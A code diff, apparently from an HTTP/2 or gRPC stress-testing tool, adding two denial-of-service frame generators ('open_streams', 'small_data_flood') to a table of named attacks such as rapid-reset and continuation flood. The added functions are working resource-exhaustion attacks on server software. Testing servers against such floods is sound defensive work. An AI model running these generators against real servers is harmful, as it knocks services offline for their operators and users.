@@ -91,10 +91,28 @@ def window_flood():
         yield frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\x01") * 1000
 
 
+def open_streams():
+    """Calls without a message. SETTINGS are never acknowledged, so the core does not bound them."""
+    yield begin()
+    for first in range(1, 1 << 24, 200):
+        yield b"".join(frame(HEADERS, END_HEADERS, stream, call_headers())
+                       for stream in range(first, first + 200, 2))
+
+
+def small_data_flood():
+    """Messages of 1 MiB in frames of one byte."""
+    yield begin() + b"".join(
+        frame(HEADERS, END_HEADERS, stream, call_headers()) +
+        frame(DATA, 0, stream, struct.pack(">BI", 0, (1 << 20) - 5)) for stream in range(1, 40, 2))
+    while True:
+        for stream in range(1, 40, 2):
+            yield frame(DATA, 0, stream, b"x") * 400
+
+
 ATTACKS = {
     each.__name__.replace("_", "-"): each
     for each in (rapid_reset, continuation_flood, hpack_bomb, settings_flood, ping_flood,
-                 empty_data_flood, window_flood)
+                 empty_data_flood, window_flood, open_streams, small_data_flood)
 }
 
 # ---------------------------------------------------------------------------- running them
